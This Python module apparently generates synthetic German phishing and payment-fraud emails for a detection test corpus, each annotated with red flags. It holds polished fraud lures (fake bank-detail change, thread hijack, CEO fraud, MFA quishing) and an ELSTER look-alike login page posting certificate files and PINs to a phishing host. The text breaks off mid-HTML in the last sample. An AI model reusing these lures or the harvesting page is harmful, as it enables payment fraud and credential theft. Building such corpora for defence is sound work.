"""German messages: attack 01-08, business 01-08."""
from lib.msg import M, message, outlook_html, gmail_html, tb_html, esc
from lib.senders import (env, h_outlook, h_gmail, h_thunderbird, h_outlook_desktop, h_apple, h_phpmailer,
                         h_generic, via_m365, via_exchange, via_gmail, finish)
from lib import mta, docs, ids, qr, png, containers, pdf
from lib.mime import Part, Multipart, RawPart
from lib.org import S, CO, OFF
from lib.util import utc, plus, rfc_date, hexs, alnum, uuid4, addr, local, epoch, b64rand, postfix_qid
from msgs.common import outlook_bounds, alt, att, inline_img, mixed, related, text_part, html_part, quote_lines, a_href

LIEF = CO["lief"]
DE = OFF["DE"]


def _de_date(t, zone="CET"):
    lt, _ = local(t, zone)
    return lt.strftime("%d.%m.%Y")


def _lief_sig(mail, name, role, mobile=None):
    return [name, role, "", "Lieferant GmbH", "Schiffsbedarf & Yachtausrüstung", "Wischhofstraße 1-3 | 24148 Kiel",
            "Tel. +49 431 72 09 80-0" + (" | Mobil %s" % mobile if mobile else ""),
            "%s | www.lieferant-gmbh.de" % mail, "",
            "Geschäftsführer: Klaus-Dieter Lange | Amtsgericht Kiel HRB 12845 KI | USt-IdNr. %s" % LIEF.vat]


LIEF_FOOTER = ["Lieferant GmbH · Wischhofstraße 1-3 · 24148 Kiel · Tel. +49 431 72 09 80-0 · www.lieferant-gmbh.de",
               "Geschäftsführer: Klaus-Dieter Lange · Amtsgericht Kiel HRB 12845 KI · USt-IdNr. %s" % LIEF.vat]


# =====================================================================================
# ATTACKS
# =====================================================================================

@message("attack", "01-de-lieferant-bankwechsel.eml")
def a01():
    m = M("attack", "01-de-lieferant-bankwechsel.eml")
    t = utc(2026, 10, 13, 7, 47, 12)
    fake = "lieferantgmbh.de"
    sender = "s.maier@" + fake
    env(m, t, S["ap"].email, sender)
    new_iban = m.iban(ids.de_iban("11010100", "2736104851"), "claimed new account (Solaris SE, BLZ 11010100) - mule account")
    old_iban = m.iban(LIEF.bank[2], "Lieferant's genuine account (Förde Sparkasse), declared 'closed'")
    mob = m.phone("+49 1522 4803917", "mobile in forged signature, not a Lieferant number")
    m.fact("Domain", fake, "look-alike of lieferant-gmbh.de (hyphen dropped), registered 2026-10-02, M365 tenant")
    paras = [
        "Sehr geehrte Frau Schröder,", "",
        "wie bereits mit Herrn Jäger aus Ihrem Einkauf besprochen, stellen wir zum 01.11.2026 unseren Zahlungsverkehr um. "
        "Im Zuge der Neuordnung unserer Unternehmensfinanzierung laufen künftig alle Zahlungseingänge über unser neues Geschäftskonto.", "",
        "Bitte hinterlegen Sie ab sofort die folgende Bankverbindung für alle offenen und zukünftigen Rechnungen der Lieferant GmbH:", "",
        "Kontoinhaber: Lieferant GmbH\nBank: Solaris SE\nIBAN: %s\nBIC: SOBKDEBBXXX" % ids.iban_print(new_iban), "",
        "Das bisherige Konto bei der Förde Sparkasse (%s) wird zum Monatsende aufgelöst. Zahlungen dorthin können ab dem 26.10.2026 "
        "nicht mehr zugeordnet werden und gehen an den Auftraggeber zurück." % ids.iban_print(old_iban), "",
        "Das offizielle Schreiben unserer Geschäftsführung finden Sie im Anhang. Wir bitten Sie, die Änderung kurz per E-Mail zu bestätigen "
        "und uns mitzuteilen, wann die derzeit offenen Posten (RE-2026-11492 und RE-2026-11518, zusammen 18.406,37 EUR) angewiesen werden.", "",
        "Wegen der gleichzeitigen Umstellung unserer Telefonanlage sind wir in dieser Woche über die Zentrale nur eingeschränkt erreichbar – "
        "bei Rückfragen erreichen Sie mich am besten per E-Mail oder mobil.", "",
        "Vielen Dank für Ihre Unterstützung und die stets gute Zusammenarbeit.", "",
        "Mit freundlichen Grüßen", "",
    ] + _lief_sig(sender, "Stefan Maier", "Key Account Management", mob)
    text = "\n".join(paras) + "\n"
    html = outlook_html(paras, "DE")
    lt, _ = local(t, "CET")
    doc = docs.letter(
        {"Title": "Änderung der Bankverbindung", "Author": "Stefan Maier", "Creator": "Microsoft® Word für Microsoft 365",
         "Producer": "Microsoft® Word für Microsoft 365", "CreationDate": pdf.pdf_date(lt), "ModDate": pdf.pdf_date(lt)},
        "Lieferant GmbH", "Schiffsbedarf & Yachtausrüstung seit 1987", "#0B3C6E",
        "Lieferant GmbH · Wischhofstraße 1-3 · 24148 Kiel",
        ["Example Yachting GmbH", "Kreditorenbuchhaltung", "Am Sandtorkai 48", "20457 Hamburg"],
        "Kiel, 12.10.2026", "Änderung unserer Bankverbindung zum 01.11.2026",
        ["Sehr geehrte Damen und Herren,",
         "im Rahmen der Neuordnung unserer Unternehmensfinanzierung ändert sich zum 01.11.2026 unsere Bankverbindung. "
         "Wir bitten Sie, Zahlungen auf sämtliche offenen und künftigen Rechnungen ausschließlich auf das nachstehende Konto zu leisten:",
         ("table", [("Kontoinhaber", 140), ("Lieferant GmbH", 343)],
          [["Kreditinstitut", "Solaris SE, Berlin"], ["IBAN", ids.iban_print(new_iban)], ["BIC", "SOBKDEBBXXX"],
           ["gültig ab", "sofort, spätestens 01.11.2026"]]),
         "Unser bisheriges Konto bei der Förde Sparkasse wird aufgelöst. Bitte aktualisieren Sie Ihre Stammdaten entsprechend und "
         "bestätigen Sie uns die Umstellung kurz schriftlich an s.maier@lieferantgmbh.de.",
         "Für Ihr Verständnis bedanken wir uns und freuen uns auf die weitere Zusammenarbeit."],
        "Mit freundlichen Grüßen", ["Klaus-Dieter Lange", "Geschäftsführer", "", "i. A. Stefan Maier, Key Account Management"],
        LIEF_FOOTER)
    pdfdata = doc.render()
    msgid = m.msgid_outlook("FR2P281MB2874", "DEUP281")
    b = outlook_bounds(msgid)
    root = mixed([alt(text, html, "utf-8", "quoted-printable", b["alt"]),
                  att(pdfdata, "application/pdf", "Bankverbindung_Lieferant_GmbH_2026.pdf", t=t)], b["mixed"])
    frm = "Stefan Maier <%s>" % sender
    hdrs = h_outlook(m, frm, ["=?iso-8859-1?Q?Jana_Schr=F6der?= <%s>" % S["ap"].email],
                     "Änderung unserer Bankverbindung ab 01.11.2026 – Lieferant GmbH", t, "CET", msgid,
                     cc=["Petra Lang <p.lang@%s>" % fake], lang="de-DE", date_utc=True)
    via_m365(m, root, hdrs, fake, "9e4c2b71-3a58-4f0e-b1d6-82c7e5a90f13", "FR2P281MB2874", "DEUP281",
             auth=lambda bp: dict(spf="pass", dkim=[("pass", fake, "selector1", bp, 2048)], dmarc=("none", "none", fake)),
             has_attach=True, client_lang="de", arc_dmarc="none")
    m.info = dict(charset="utf-8", cte="quoted-printable",
                  structure="mixed(alternative(text, html), PDF letter)",
                  what="Supplier bank-detail change 'from' Lieferant GmbH to accounts payable, with a forged letter on letterhead",
                  why="Look-alike domain lieferantgmbh.de (no hyphen) on a fresh M365 tenant: SPF/DKIM pass for the wrong domain, no DMARC; "
                      "new IBAN at a neobank, 'old account closed', phone channel discouraged, mobile number not Lieferant's, Cc to a fake colleague address")
    return m


@message("attack", "02-de-lieferant-thread-hijack.eml")
def a02():
    m = M("attack", "02-de-lieferant-thread-hijack.eml")
    t = utc(2026, 10, 27, 14, 2, 41)
    env(m, t, S["proc"].email, "p.lang@lieferant-gmbh.de")
    lt_iban = m.iban(ids.lt_iban(35000, 10002847), "new account 'for factoring' at a Lithuanian EMI (Paysera, bank code 35000)")
    m.fact("Reply-To", "p.lang@lieferant-gmbh-de.com", "reply diverted to look-alike domain")
    # quoted thread
    q_t = utc(2026, 10, 23, 8, 31, 0)
    q_t2 = utc(2026, 10, 26, 7, 58, 0)
    orig = ("Hallo Frau Lang,\n\nwie telefonisch besprochen bestellen wir für das Winterlager in Laboe:\n\n"
            "- 24 x Hempel Hard Racing TecCel, blau, 2,5 l\n- 60 x Zinkanode Wellenanode 30 mm\n- 12 x Impeller Volvo Penta 21951346\n\n"
            "Lieferung bitte direkt an Hellwig Werft, Hafenstraße 18, 24235 Laboe, z. Hd. Herrn Ohlsen.\n\n"
            "Viele Grüße\nMarkus Jäger\nEinkauf / Procurement\nExample Yachting GmbH")
    reply1 = ("Guten Morgen Herr Jäger,\n\nvielen Dank für Ihre Bestellung. Anbei unsere Auftragsbestätigung AB-26-10417. "
              "Die Ware geht am Donnerstag per Spedition nach Laboe.\n\nMit freundlichen Grüßen\nPetra Lang\nInnendienst\nLieferant GmbH")
    paras = ["Hallo Herr Jäger,", "",
             "die Ware ist heute Vormittag bei der Hellwig Werft angekommen, Herr Ohlsen hat den Empfang bestätigt.", "",
             "Anbei die Rechnung RE-2026-12044 zu AB-26-10417. Bitte beachten Sie, dass unsere Forderungen ab sofort über unseren "
             "Factoring-Partner abgewickelt werden – die Bankverbindung auf der Rechnung ist daher eine andere als bisher. "
             "Bitte leiten Sie die Rechnung mit diesem Hinweis an Ihre Buchhaltung weiter, damit die Zahlung nicht auf das alte Konto geht.", "",
             "Bei Rückfragen bitte direkt per Mail an mich, ich bin diese Woche viel im Lager unterwegs.", "",
             "Mit freundlichen Grüßen", "Petra Lang", "Innendienst / Auftragsabwicklung", "Lieferant GmbH", "Tel. +49 431 72 09 80-14"]
    quoted = ("\n\nAm %s schrieb Petra Lang:\n" % rfc_date(q_t2, "CET") +
              quote_lines(reply1 + "\n\nAm %s schrieb Markus Jäger:\n" % rfc_date(q_t, "CET") + quote_lines(orig)))
    text = "\n".join(paras) + quoted + "\n"
    lt, _ = local(t, "CET")
    items = [["1", "Hempel Hard Racing TecCel 7688C blau 2,5 l", "24", "142,80", "3.427,20"],
             ["2", "Wellenanode Zink 30 mm (Tecnoseal)", "60", "18,45", "1.107,00"],
             ["3", "Impeller Volvo Penta 21951346", "12", "64,90", "778,80"],
             ["4", "Fracht Spedition Kiel – Laboe", "1", "95,00", "95,00"]]
    doc = docs.invoice(
        {"Title": "Rechnung RE-2026-12044", "Author": "Lieferant GmbH", "Creator": "Microsoft® Excel® 2021",
         "Producer": "Microsoft® Excel® 2021", "CreationDate": pdf.pdf_date(lt)},
        "Lieferant GmbH", "Schiffsbedarf & Yachtausrüstung", "#0B3C6E", "Lieferant GmbH · Wischhofstraße 1-3 · 24148 Kiel",
        ["Example Yachting GmbH", "Am Sandtorkai 48", "20457 Hamburg"], "Rechnung RE-2026-12044",
        [("Rechnungsdatum", "27.10.2026"), ("Kundennummer", "10234"), ("Auftrag", "AB-26-10417"), ("Ihre Bestellung", "M. Jäger, 23.10.2026")],
        [("Pos", 30), ("Artikel", 250), ("Menge", 50), ("Einzelpreis", 70), ("Gesamt", 83)],
        items, ["l", "l", "r", "r", "r"],
        [("Netto", "5.408,00 EUR", False), ("USt 19 %", "1.027,52 EUR", False), ("Rechnungsbetrag", "6.435,52 EUR", True)],
        ["Zahlbar innerhalb von 7 Tagen ohne Abzug.",
         "Die Forderung wurde im Rahmen eines Factoringvertrags abgetreten. Zahlungen mit befreiender Wirkung nur auf folgendes Konto:",
         "Kontoinhaber: Lieferant GmbH / Factoring · IBAN %s · BIC EVIULT2VXXX" % ids.iban_print(lt_iban)],
        LIEF_FOOTER)
    pdfdata = doc.render()
    msgid = "<%s@lieferant-gmbh.de>" % hexs(m.r, 32)
    irt = "<%s@lieferant-gmbh.de>" % uuid4(m.r)
    ref0 = m.msgid_exchange("EXCH02")
    root = mixed([text_part(text, "UTF-8", "quoted-printable", flowed=True),
                  att(pdfdata, "application/pdf", "RE-2026-12044.pdf", style="generic", size=False)],
                 m.boundary("roundcube"))
    hdrs = [("MIME-Version", "1.0"), ("Date", rfc_date(t, "CET")),
            ("From", "Petra Lang <p.lang@lieferant-gmbh.de>"),
            ("To", "=?UTF-8?Q?Markus_J=C3=A4ger?= <%s>" % S["proc"].email),
            ("Cc", "=?UTF-8?Q?Jana_Schr=C3=B6der?= <%s>" % S["ap"].email),
            ("Subject", "AW: Bestellung Winterlager Laboe / AB-26-10417"),
            ("In-Reply-To", irt), ("References", "%s\r\n %s" % (ref0, irt)),
            ("Reply-To", "Petra Lang <p.lang@lieferant-gmbh-de.com>"),
            ("Message-ID", msgid), ("X-Sender", "p.lang@lieferant-gmbh.de"),
            ("User-Agent", "Roundcube Webmail/1.6.9"), ("MIME", None)]
    body = root.payload()
    # webmail on the relay itself: localhost submission, then OpenDKIM
    r = m.r
    t1 = plus(t, 1)
    qid = postfix_qid(r, t1)
    rec = ("from webmail.lieferant-gmbh.de (localhost [127.0.0.1])\r\n\t(Authenticated sender: p.lang@lieferant-gmbh.de)\r\n"
           "\tby mail.lieferant-gmbh.de (Postfix) with ESMTPSA id %s;\r\n\t%s" % (qid, rfc_date(t1, "CET", "postfix")))
    dv, bp = mta.dkim(r, "lieferant-gmbh.de", "mail2024", "Date:From:To:Cc:Subject:In-Reply-To:References:Reply-To:From",
                      body, t=int(epoch(t1)), c="relaxed/simple")
    pre = [("DKIM-Filter", "OpenDKIM Filter v2.11.0 mail.lieferant-gmbh.de %s" % qid), ("DKIM-Signature", dv),
           ("Received", rec)]
    client = ("mail.lieferant-gmbh.de", "mail.lieferant-gmbh.de", "203.0.113.25", mta.TLS13_256)
    finish(m, root, dict(spf="pass", dkim=[("pass", "lieferant-gmbh.de", "mail2024", bp, 2048)],
                         dmarc=("pass", "quarantine", "lieferant-gmbh.de")), pre, client, plus(t, 2), hdrs)
    m.fact("Webmail login", "Roundcube session from 185.107.56.219 (NL VPS) per supplier's later incident note", "context only")
    m.info = dict(charset="UTF-8", cte="quoted-printable (format=flowed)",
                  structure="mixed(text/plain, PDF invoice)",
                  what="Reply inside a real order thread from Lieferant's genuine (compromised) mailbox, with an invoice naming a 'factoring' account",
                  why="Thread hijack: SPF/DKIM/DMARC all pass for lieferant-gmbh.de, but Reply-To points to look-alike lieferant-gmbh-de.com, "
                      "sent via Roundcube webmail (Lieferant staff normally use desktop clients - Thunderbird/ERP, see business 01/02), new Lithuanian EMI IBAN 'due to factoring', urges to bypass the usual contact")
    return m


@message("attack", "03-de-ceo-vertraulich.eml")
def a03():
    m = M("attack", "03-de-ceo-vertraulich.eml")
    t = utc(2026, 11, 5, 10, 18, 33)
    fake = "examplegroup-eu.com"
    sender = "henrik.brandt@" + fake
    env(m, t, S["cfo"].email, sender)
    m.fact("Domain", fake, "look-alike of examplegroup.eu, Zoho Mail EU")
    paras = ["Liebe Claudia,", "",
             "bist Du heute bis ca. 16 Uhr am Platz? Ich sitze den ganzen Tag in Split bei den Gesprächen mit Adria Sail Charter d.o.o. "
             "und bin telefonisch kaum erreichbar, daher kurz per Mail.", "",
             "Wir sind mit der Übernahme der 14 Schiffe (Bavaria C42/C46, 2 Lagoon 42) deutlich weiter als gedacht. Der Verkäufer "
             "verlangt bis morgen eine Exklusivitätsanzahlung auf das Treuhandkonto der Kanzlei, sonst geht er mit dem zweiten Bieter in die nächste Runde. "
             "Es geht um 186.500 EUR, die nach Signing voll auf den Kaufpreis angerechnet werden.", "",
             "Dr. Felix Aumann von der begleitenden Kanzlei meldet sich gleich bei Dir mit den Treuhanddaten und dem Term Sheet. "
             "Bitte behandle das strikt vertraulich – bis zur Information des Beirats nächste Woche weiß außer uns beiden niemand davon, "
             "auch nicht Jens oder die Kollegen in Griechenland. Insiderthema, Du verstehst.", "",
             "Gib mir bitte kurz Bescheid, ob die Zahlung heute noch als Einzelüberweisung rausgehen kann. Freigabe von meiner Seite hast Du hiermit.", "",
             "Danke Dir!", "Henrik", "", "Von meinem iPhone gesendet"]
    text = "\n".join(paras) + "\n"
    html = ('<div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;"><div>%s</div></div><br>'
            % "<br>".join(esc(p) for p in paras))
    html = "<!DOCTYPE html><html><head><meta content=\"text/html;charset=UTF-8\" http-equiv=\"Content-Type\"></head><body>" + html + "</body></html>"
    root = alt(text, html, "UTF-8", "quoted-printable", m.boundary("generic"), quote_cs=False)
    msgid = "<%d%s@%s>" % (int(epoch(t)) * 1000 + m.r.randrange(1000), "." + str(m.r.randrange(10 ** 18, 10 ** 19)), "zoho.eu")
    hdrs = [("Date", rfc_date(t, "CET")), ("From", "\"Dr. Henrik Brandt\" <%s>" % sender),
            ("To", "\"Claudia Vogt\" <%s>" % S["cfo"].email), ("Message-Id", msgid),
            ("Subject", "vertraulich - kurze Abstimmung heute"),
            ("MIME-Version", "1.0"), ("MIME", None), ("Importance", "High"), ("X-Priority", "1"),
            ("User-Agent", "Zoho Mail"), ("X-Mailer", "Zoho Mail")]
    body = root.payload()
    r = m.r
    dv, bp = mta.dkim(r, fake, "zmail", "Date:Date:From:From:To:To:Message-Id:Message-Id:Subject:Subject:MIME-Version:Content-Type:Reply-To",
                      body, t=int(epoch(t)), style="exim", c="relaxed/relaxed")
    t_in = plus(t, -2)
    arc = [("ARC-Seal", "i=1; a=rsa-sha256; t=%d; cv=none; \r\n\td=zohomail.eu; s=zohoarc; \r\n\tb=%s"
            % (epoch(t), mta._wrap(b64rand(r, 256), 50, 72, "\r\n\t"))),
           ("ARC-Message-Signature", "i=1; a=rsa-sha256; c=relaxed/relaxed; d=zohomail.eu; s=zohoarc; \r\n\tt=%d; h=Content-Type:Date:Date:From:From:MIME-Version:Message-ID:Subject:Subject:To:To:Message-Id:Reply-To; \r\n\tbh=%s; \r\n\tb=%s"
            % (epoch(t), mta.body_hash(body), mta._wrap(b64rand(r, 256), 50, 72, "\r\n\t"))),
           ("ARC-Authentication-Results", "i=1; mx.zohomail.eu;\r\n\tdkim=pass  header.i=%s;\r\n\tspf=pass  smtp.mailfrom=%s;\r\n\tdmarc=pass header.from=<%s>" % (fake, sender, sender)),
           ("DKIM-Signature", dv),
           ("Received", "by mx.zoho.eu with SMTP id %d%d.%d;\r\n\t%s" % (epoch(t), r.randrange(100, 999), r.randrange(10 ** 8, 10 ** 9), rfc_date(t, "CET"))),
           ("Received", "from  [91.207.174.20] by mail.zoho.eu\r\n\twith HTTP;%s" % rfc_date(t_in, "PT", "abbr"))]
    post = [("X-ZohoMail-Owner", "<%s>+zmo_0_%s" % (msgid.strip("<>"), sender))]
    ip = "136.143.169.%d" % r.randrange(10, 60)
    client = ("sender4-op-o%d.zoho.eu" % int(ip.split(".")[-1]), "sender4-op-o%d.zoho.eu" % int(ip.split(".")[-1]), ip, mta.TLS12)
    finish(m, root, dict(spf="pass", dkim=[("pass", fake, "zmail", bp, 2048)], dmarc=("pass", "none", fake)),
           arc, client, plus(t, 3), hdrs + post)
    m.info = dict(charset="UTF-8", cte="quoted-printable", structure="alternative(text, html)",
                  what="CEO fraud: 'Henrik Brandt' asks the CFO for a same-day confidential escrow payment for a fleet acquisition",
                  why="Sender domain examplegroup-eu.com is a look-alike (Zoho Mail), not example.com; secrecy, urgency, self-granted approval, "
                      "announces a 'lawyer' who will send escrow details, avoids phone ('barely reachable')")
    return m


@message("attack", "04-de-elster-html-anhang.eml")
def a04():
    m = M("attack", "04-de-elster-html-anhang.eml")
    t = utc(2026, 10, 20, 5, 41, 9)
    host_dom = "baeckerei-huber-mittenwald.de"
    sender = "wordpress@" + host_dom
    env(m, t, S["ap"].email, sender)
    phish = m.url("https://elster-postfach.de-bescheid.net/eportal/login/zertifikat?sid=47722033188", "form action in HTML attachment")
    m.fact("Steuernummer", DE["tax"][2][1], "company's real tax number (from public invoices) used as lure")
    paras = ["Sehr geehrte Damen und Herren,", "",
             "in Ihrem ELSTER-Postfach liegt ein neuer Verwaltungsakt zur Steuernummer 47/722/03318 zur Abholung bereit:", "",
             "Dokument: Festsetzung von Säumniszuschlägen (§ 240 AO) - Umsatzsteuer-Voranmeldung 08/2026",
             "Betrag: 2.184,00 EUR", "Bereitgestellt am: %s" % _de_date(t), "",
             "Aus Sicherheitsgründen wurde das Dokument verschlüsselt als Anlage beigefügt. Öffnen Sie die Anlage im Browser und "
             "melden Sie sich mit Ihrer Zertifikatsdatei und Ihrem Passwort an, um den Bescheid einzusehen.", "",
             "Bitte beachten Sie: Ein Einspruch ist innerhalb eines Monats nach Bekanntgabe möglich. Nach Ablauf von 7 Tagen "
             "werden weitere Säumniszuschläge festgesetzt.", "",
             "Mit freundlichen Grüßen", "Ihr ELSTER-Team", "",
             "Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail."]
    text = "\n".join(paras) + "\n"
    htmlatt = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Mein ELSTER - Login</title>
<style>body{font-family:Arial,Helvetica,sans-serif;background:#f2f2f2;margin:0}
.top{background:#1f4e79;color:#fff;padding:14px 30px;font-size:20px}.box{background:#fff;width:420px;margin:50px auto;padding:30px;border:1px solid #ccc}
label{display:block;margin-top:14px;font-size:13px}input{width:100%%;padding:8px;margin-top:4px}button{margin-top:20px;background:#1f4e79;color:#fff;border:0;padding:10px 20px}</style>
</head><body><div class="top">Mein ELSTER &ndash; Ihr Online-Finanzamt</div>
<div class="box"><h3>Bescheid zur Steuernummer 47/722/03318</h3>
<p style="font-size:13px">Zum Anzeigen des Dokuments melden Sie sich bitte mit Ihrer Zertifikatsdatei an.</p>
<form method="post" action="%s">
<label>Zertifikatsdatei (*.pfx)<input type="file" name="cert"></label>
<label>Passwort<input type="password" name="pin"></label>
<label>E-Mail<input type="email" name="mail" value="jana.schroeder@example.com"></label>
<button type="submit">Login</button></form>
<p style="font-size:11px;color:#777">&copy; 2026 Bayerisches Landesamt f&uuml;r Steuern</p></div></body></html>
""" % phish
    root = mixed([text_part(text, "iso-8859-1", "8bit"),
                  Part("text/html", htmlatt, charset="utf-8", cte="base64", filename="ELSTER_Bescheid_47-722-03318.html",
                       disposition="attachment")], m.boundary("phpmailer"))
    msgid = m.msgid_php(host_dom)
    hdrs = h_phpmailer(m, "ELSTER - Ihr Online-Finanzamt <%s>" % sender, [S["ap"].email],
                       "Neue Nachricht in Ihrem ELSTER-Postfach - Steuernummer 47/722/03318", t, "CET", msgid,
                       version="6.8.1", charset="iso-8859-1", enc="Q")
    hdrs = [(k, v) for k, v in hdrs]
    body = root.payload()
    pre, client, t_mx, bp = mta.exim(m.env, "srv12.hostingservice-bayern.de", "198.51.100.141", body, sender,
                                     auth=False, dkim_d=host_dom, dkim_s="default")
    finish(m, root, dict(spf="pass", dkim=[("pass", host_dom, "default", bp, 2048)], dmarc=("pass", "none", host_dom)),
           pre, client, t_mx, hdrs)
    m.info = dict(charset="iso-8859-1 (text), utf-8 (attachment)", cte="8bit / base64",
                  structure="mixed(text/plain, text/html attachment)",
                  what="ELSTER 'new notice' with an HTML attachment that is a local copy of a login page asking for the certificate file and PIN",
                  why="Sent by PHPMailer from a compromised bakery WordPress (SPF/DKIM pass for baeckerei-huber-mittenwald.de, display name 'ELSTER'); "
                      "ELSTER never mails documents or asks for certificate upload; form posts to de-bescheid.net")
    return m


@message("attack", "05-de-mfa-quishing-pdf.eml")
def a05():
    m = M("attack", "05-de-mfa-quishing-pdf.eml")
    t = utc(2026, 10, 28, 6, 3, 51)
    fake = "examplegroup-it.com"
    sender = "it-service@" + fake
    env(m, t, S["assist"].email, "010201" + hexs(m.r, 10) + "-" + uuid4(m.r) + "-000000@amazonses.com")
    payload = "https://www.google.com/amp/s/m365-authverify.net/mfa/?id=c2FiaW5lLndvbGZmQGV4YW1wbGUuY29t"
    m.url(payload, "QR code in PDF (Google AMP redirect to phishing kit)")
    m.qr.append(("PDF MFA_Registrierung_Sabine_Wolff.pdf", payload))
    m.fact("QR", payload, "in PDF; base64 'id' = sabine.wolff@example.com")
    lt, _ = local(t, "CET")
    doc = docs.notice(
        {"Title": "Microsoft Authenticator – erneute Registrierung", "Author": "IT Service", "Producer": "Skia/PDF m129",
         "Creator": "Chromium", "CreationDate": pdf.pdf_date(lt)},
        "Microsoft 365", "Sicherheitsinformationen · Example Group", "#0078D4",
        [("h", "Erneute Registrierung der Multi-Faktor-Authentifizierung erforderlich"),
         ("p", "Hallo Sabine Wolff,"),
         ("p", "im Zuge der Umstellung auf die neuen Sicherheitsstandards (Microsoft Entra ID, Oktober 2026) verlieren bestehende "
               "Authenticator-Registrierungen am 31.10.2026 ihre Gültigkeit. Um weiterhin auf Outlook, Teams und SharePoint zugreifen "
               "zu können, müssen Sie Ihr Mobilgerät neu registrieren."),
         ("b", "So gehen Sie vor:"),
         ("p", "1. Öffnen Sie die Kamera Ihres Smartphones.\n2. Scannen Sie den folgenden QR-Code.\n3. Melden Sie sich mit Ihrem "
               "Firmenkonto an und bestätigen Sie die Anfrage in der Authenticator-App."),
         ("qr", (payload, 130)),
         ("small", "Der QR-Code ist 48 Stunden gültig und an Ihr Konto sabine.wolff@example.com gebunden."),
         ("p", "Nicht registrierte Konten werden aus Sicherheitsgründen automatisch gesperrt."),
         ("p", "Ihr IT-Service")],
        ["Microsoft Corporation · One Microsoft Way · Redmond, WA 98052 · Dieses Dokument ist vertraulich."], logo="bar")
    pdfdata = doc.render()
    text = ("Hallo Sabine Wolff,\n\nfür Ihr Konto sabine.wolff@example.com ist eine erneute Registrierung der Multi-Faktor-Authentifizierung "
            "erforderlich. Die Anleitung finden Sie im beigefügten Dokument.\n\nFrist: 30.10.2026\n\nIT-Service\n"
            "Diese Nachricht wurde automatisch versendet.\n")
    html = ('<html><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">'
            '<p>Hallo Sabine Wolff,</p><p>f&uuml;r Ihr Konto <b>sabine.wolff@example.com</b> ist eine erneute Registrierung der '
            'Multi-Faktor-Authentifizierung erforderlich. Die Anleitung finden Sie im beigef&uuml;gten Dokument.</p>'
            '<p><b>Frist: 30.10.2026</b></p><p>IT-Service</p><p style="font-size:11px;color:#888">Diese Nachricht wurde automatisch versendet.</p>'
            '</body></html>')
    root = mixed([alt(text, html, "UTF-8", "base64", m.boundary("ses"), quote_cs=False),
                  att(pdfdata, "application/pdf", "MFA_Registrierung_Sabine_Wolff.pdf", style="generic", size=False)],
                 m.boundary("ses"))
    msgid = "<010201%s-%s-000000@email.amazonses.com>" % (hexs(m.r, 10), uuid4(m.r))
    hdrs = [("From", "IT-Service Example Group <%s>" % sender), ("To", S["assist"].email),
            ("Subject", "=?UTF-8?B?%s?=" % __import__("base64").b64encode("Aktion erforderlich: Authenticator-Registrierung läuft ab (Sabine Wolff)".encode()).decode()),
            ("MIME-Version", "1.0"), ("MIME", None), ("Message-ID", msgid), ("Date", rfc_date(t, "UTC", "pad"))]
    body = root.payload()
    pre, post, client, t_mx, (bp, bp2) = mta.ses(m.env, body, "us-east-1", fake, "k7x3q2", "224i4yxa5dv7c2xz3womw6peuasteono",
                                                "1.us-east-1.%s=:AmazonSES" % b64rand(m.r, 30).rstrip("="))
    finish(m, root, dict(spf="pass", dkim=[("pass", fake, "k7x3q2", bp, 2048), ("pass", "amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", bp2, 1024)],
                         dmarc=("pass", "none", fake)), pre, client, t_mx, hdrs + post)
    m.info = dict(charset="UTF-8", cte="base64", structure="mixed(alternative(text, html), PDF with QR code)",
                  what="Quishing: 'IT-Service' asks the CEO assistant to re-register MFA by scanning a QR code in a PDF",
                  why="Look-alike domain examplegroup-it.com via Amazon SES (auth passes for the wrong domain); the only link is inside a QR code in a PDF "
                      "and goes through a Google AMP redirect to m365-authverify.net; deadline and lock-out threat")
    return m


@message("attack", "06-de-dropbox-werft-kompromittiert.eml")
def a06():
    m = M("attack", "06-de-dropbox-werft-kompromittiert.eml")
    t = utc(2026, 11, 8, 2, 12, 40)
    env(m, t, S["fleet"].email, "bounces+%s@em.dropbox.com" % hexs(m.r, 12))
    link = m.url("https://www.dropbox.com/scl/fi/k3v9x0q2m7hz1w8c5r4ty/Kostenvoranschlag_Refit_Bavaria-C46_2026-27.pdf?rlkey=x7m2q9p4v1c8w3n6z5t0b2k8j&st=4hq8mz2c&dl=0",
                  "real Dropbox link; the shared PDF carries the 'view document' link to the phishing page")
    m.fact("Shared file", "Kostenvoranschlag_Refit_Bavaria-C46_2026-27.pdf", "hosted on Dropbox, contains link to hellwig-werft-docs.sharefile-secure.com (not in this e-mail)")
    paras_html = """<!DOCTYPE html><html lang="de"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1"><title>Dropbox</title></head>
<body style="margin:0;padding:0;background:#f7f5f2">
<table width="100%%" cellpadding="0" cellspacing="0" role="presentation"><tr><td align="center" style="padding:32px 12px">
<table width="520" cellpadding="0" cellspacing="0" role="presentation" style="background:#ffffff;border-radius:8px;font-family:'Helvetica Neue',Helvetica,Arial,sans-serif;color:#1e1919">
<tr><td style="padding:32px 40px 8px"><img src="https://cfl.dropboxstatic.com/static/images/emails/glyph/glyph_34%%402x.png" width="34" height="34" alt="Dropbox"></td></tr>
<tr><td style="padding:8px 40px;font-size:20px;font-weight:600">Sven Ohlsen hat &bdquo;Kostenvoranschlag_Refit_Bavaria-C46_2026-27.pdf&ldquo; mit Ihnen geteilt</td></tr>
<tr><td style="padding:8px 40px;font-size:15px;line-height:22px;color:#52433d">&bdquo;Moin Herr Hansen, anbei wie besprochen der Kostenvoranschlag f&uuml;r den Refit der C46 &sbquo;Seeadler&lsquo; inkl. Osmosebehandlung. Die Datei ist zu gro&szlig; f&uuml;r den Mailversand. Gru&szlig; Sven Ohlsen&ldquo;</td></tr>
<tr><td style="padding:24px 40px"><a href="%s" style="background:#0061fe;color:#ffffff;text-decoration:none;padding:12px 24px;border-radius:4px;font-size:15px;font-weight:600;display:inline-block">Datei ansehen</a></td></tr>
<tr><td style="padding:8px 40px 32px;font-size:12px;color:#736c64">Viel Spa&szlig;!<br>Das Dropbox-Team</td></tr>
</table>
